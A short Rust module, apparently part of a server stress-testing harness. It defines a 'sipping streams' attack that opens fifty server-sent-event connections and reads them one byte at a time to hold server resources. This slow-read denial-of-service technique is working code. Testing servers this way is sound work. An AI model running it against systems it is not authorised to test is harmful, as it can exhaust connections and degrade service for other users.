//! Streams are read a byte at a time.

use std::time::Duration;

use tokio::io::AsyncReadExt as _;
use tokio::time::sleep;

use crate::attack::head;
use crate::attack::{Attack, AttackFuture, Target};

#[derive(Debug)]
pub(crate) struct SippingStreams;

impl Attack for SippingStreams {
    fn name(&self) -> &'static str {
        "sipping streams"
    }

    fn run<'a>(&'a self, target: &'a Target) -> AttackFuture<'a> {
        Box::pin(async move {
            let mut streams = Vec::new();
            for _ in 0..50 {
                streams.extend(target.say(head("GET", "/sse/events?topic=news", "")).await.ok());
            }
            for _ in 0..20 {
                for stream in &mut streams {
                    let _ = stream.read_u8().await;
                }
                sleep(Duration::from_millis(100)).await;
            }
        })
    }
}
